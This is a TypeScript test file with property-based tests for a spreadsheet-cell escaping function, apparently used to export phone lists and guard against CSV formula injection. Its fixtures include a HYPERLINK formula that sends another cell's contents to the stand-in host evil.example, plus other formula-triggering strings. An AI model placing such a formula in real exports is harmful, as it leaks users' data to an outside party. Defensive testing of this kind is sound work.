import fc from 'fast-check'
import { expect, test } from 'vitest'
import { spreadsheetCell } from '../../../src/renderer/phones/export/spreadsheet-cell.ts'

test.each([
  '=HYPERLINK("https://evil.example/?"&B1,"more")',
  '+1-555-0100',
  '-2+3',
  '@SUM(A1)',
  ' =1+1',
  '\t=1+1',
  '"=1+1"',
  '" =1+1',
  '＝1+1',
  '"0"\t"=1"',
])('%j is shown by a spreadsheet, not reckoned', (text) => {
  expect(spreadsheetCell(text)).toMatch(/^'/)
})

test.each(['2001', 'Reception', "O'Brien", 'a=b', '0004f2-abcdef', ''])('%j stays as it is', (text) => {
  expect(spreadsheetCell(text)).toBe(text)
})

test('no text makes a second cell, a second line, or a formula', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('=', '+', '"', ' ', '\t', '\r', '\n', '\u2028', 'a', '@', '-') }),
      (text) => {
        const cell = spreadsheetCell(text)
        expect(cell).not.toMatch(/[\t\r\n\u2028]/)
        expect(cell).not.toMatch(/^[\s"]*[=+\-@]/)
      },
    ),
    { seed: 7 },
  )
})
